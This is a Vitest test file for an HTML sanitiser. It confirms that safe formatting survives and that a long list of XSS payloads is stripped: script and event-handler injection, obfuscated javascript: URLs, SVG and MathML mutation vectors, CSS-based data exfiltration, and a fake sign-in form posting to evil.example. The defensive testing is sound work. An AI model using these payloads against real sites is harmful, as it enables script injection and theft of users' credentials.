import { describe, expect, test } from 'vitest'
import { cleanFragment, cleanHtml } from '../../widgets/shared/cleanHtml.ts'
import { htmlText } from '../../widgets/shared/htmlText.ts'

const picture = (source: string) => (/^https?:|^data:image/.test(source) ? source : undefined)

describe('formatting stays', () => {
  test.each([
    '<p>One <strong>two</strong> <em>three</em> <u>four</u> <s>five</s></p>',
    '<h1>A</h1><h2>B</h2><blockquote><p>C</p></blockquote>',
    '<ul><li><p>A</p></li></ul><ol start="3"><li>B</li></ol>',
    '<pre><code class="language-sql">select 1</code></pre>',
    '<p style="text-align: center"><span style="color: rgb(1, 2, 3)">A</span></p>',
    '<table style="min-width: 50px"><colgroup><col style="width: 25px"></colgroup><tbody><tr><th colspan="2" rowspan="1"><p>A</p></th></tr></tbody></table>',
    '<p><img src="https://example.com/a.png" alt="A" width="10"></p>',
    '<p><img src="data:image/png;base64,AAAA" alt=""></p>',
    '<hr><p>A<br>B</p>',
    '<p>1 &lt; 2 &amp; 3</p>',
  ])('%s', (html) => expect(cleanHtml(html, picture)).toBe(html))

  test('links open beside the app and learn nothing of it', () => {
    expect(cleanHtml('<a href="https://example.com" target="_top" rel="opener">A</a>', picture)).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">A</a>',
    )
    expect(cleanHtml('<a href="/isystem/user" target="_blank">A</a>', picture)).toBe('<a href="/isystem/user">A</a>')
  })
})

/** What runs, fetches, covers or spies; each is tried as markup and as a piece of page. */
const hostile: readonly string[] = [
  '<script>globalThis.wasRun = true</script>',
  '<SCRIPT SRC=https://evil.example/a.js></SCRIPT>',
  '<scr<script>ipt>globalThis.wasRun = true</scr</script>ipt>',
  '<img src=x onerror="globalThis.wasRun = true">',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="globalThis.wasRun = true">',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=globalThis.wasRun=true>',
  '<img src="javascript:globalThis.wasRun = true">',
  '<img/src=`x`onerror=globalThis.wasRun=true>',
  '<img srcset="https://evil.example/a.png 1x">',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="https://evil.example/a.png 2x">',
  '<image src=x onerror=globalThis.wasRun=true>',
  '<a href="javascript:globalThis.wasRun = true">A</a>',
  '<a href="JaVaScRiPt:globalThis.wasRun = true">A</a>',
  '<a href="java&#x09;script:globalThis.wasRun = true">A</a>',
  '<a href="&#106;avascript:globalThis.wasRun = true">A</a>',
  '<a href=" &#1; javascript:globalThis.wasRun = true">A</a>',
  '<a href="data:text/html,<script>globalThis.wasRun = true</script>">A</a>',
  '<a href="vbscript:msgbox(1)">A</a>',
  '<a href="#" onclick="globalThis.wasRun = true">A</a>',
  '<a href="#" onmouseover=globalThis.wasRun=true>A</a>',
  '<p onfocus="globalThis.wasRun = true" tabindex="0" autofocus>A</p>',
  '<svg onload="globalThis.wasRun = true"></svg>',
  '<svg><script>globalThis.wasRun = true</script></svg>',
  '<svg><a xlink:href="javascript:globalThis.wasRun = true"><text>A</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:globalThis.wasRun=true /></svg>',
  '<svg><foreignObject><img src=x onerror=globalThis.wasRun=true></foreignObject></svg>',
  '<svg><style><img src=x onerror=globalThis.wasRun=true></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=globalThis.wasRun=true>">',
  '<math href="javascript:globalThis.wasRun = true">A</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=globalThis.wasRun=true>',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.wasRun=true>"></noscript>',
  '<template><img src=x onerror=globalThis.wasRun=true></template>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.wasRun = true</script>"></iframe>',
  '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/a.swf">',
  '<video src="https://evil.example/a.mp4" onerror="globalThis.wasRun = true" autoplay></video>',
  '<audio src=x onerror=globalThis.wasRun=true></audio>',
  '<details open ontoggle=globalThis.wasRun=true><summary>A</summary></details>',
  '<marquee onstart=globalThis.wasRun=true>A</marquee>',
  '<body onload=globalThis.wasRun=true background="https://evil.example/a.png">A</body>',
  '<style>@import "https://evil.example/a.css"; p { background: url(https://evil.example) }</style><p>A</p>',
  '<style>input[value^="a"] { background: url(https://evil.example/a) }</style>',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<p style="background: url(https://evil.example/a.png)">A</p>',
  '<p style="background-image: url(&quot;https://evil.example/a.png&quot;)">A</p>',
  '<p style="width: expression(globalThis.wasRun = true)">A</p>',
  '<p style="position: fixed; inset: 0; z-index: 9999">Sign in again</p>',
  '<p class="ant-modal-mask">A</p>',
  '<div id="root" name="cookie">A</div>',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<input type="image" src="https://evil.example/a.png" onerror="globalThis.wasRun = true">',
  '<select onfocus=globalThis.wasRun=true autofocus><option>A</option></select>',
  '<textarea autofocus onfocus=globalThis.wasRun=true>A</textarea>',
  '<p contenteditable="true" accesskey="x" data-foo="1" aria-label="Save" role="button">A</p>',
  '<a href="https://example.com" ping="https://evil.example" download>A</a>',
  '<x-element is="evil" slot="a">A</x-element>',
  '<table background="https://evil.example/a.png"><tr><td background="https://evil.example/b.png">A</td></tr></table>',
  '<!--[if gte IE 4]><script>globalThis.wasRun = true</script><![endif]-->',
  '<![CDATA[<script>globalThis.wasRun = true</script>]]>',
  '<p>{{ globalThis.wasRun = true }}</p>',
]
const forbidden =
  'script, style, svg, math, iframe, object, embed, link, meta, base, form, input, button, select, textarea, video, audio, template, noscript, details, marquee, x-element'
const allowedAttributes =
  /^(href|target|rel|src|alt|title|width|height|style|class|align|dir|lang|colspan|rowspan|colwidth|scope|start|type)$/

describe('what is hostile goes', () => {
  test.each(hostile)('%s', async (html) => {
    const holder = document.createElement('div')
    document.body.append(holder)
    holder.append(cleanFragment(html, picture))
    holder.insertAdjacentHTML('beforeend', cleanHtml(html, picture))
    expect(holder.querySelectorAll(forbidden)).toHaveLength(0)
    for (const element of holder.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).toMatch(allowedAttributes)
        expect(value).not.toMatch(/script:|url\(|evil|expression|fixed|ant-/i)
      }
    }
    // What would run, runs when its picture was loaded or could not be.
    await Promise.allSettled([...holder.querySelectorAll('img')].map((shown) => shown.decode()))
    expect(globalThis).not.toHaveProperty('wasRun')
    holder.remove()
  })
})

describe('what a person reads of HTML', () => {
  test.each([
    ['<p>One</p><p>Two</p>', 'One Two'],
    ['One<br>two', 'One two'],
    ['<ul><li>A</li><li>B</li></ul>', 'A B'],
    ['<p>A<strong>B</strong>C</p>', 'ABC'],
    ['1 &lt; 2 &amp; 3', '1 < 2 & 3'],
    ['<script>alert(1)</script><style>p{}</style>A', 'A'],
    ['<img src=x onerror="globalThis.wasRun = true">', ''],
    ['plain\n  text', 'plain text'],
    ['<p></p>', ''],
  ])('%j is %j', (html, text) => {
    expect(htmlText(html)).toBe(text)
    expect(globalThis).not.toHaveProperty('wasRun')
  })
})
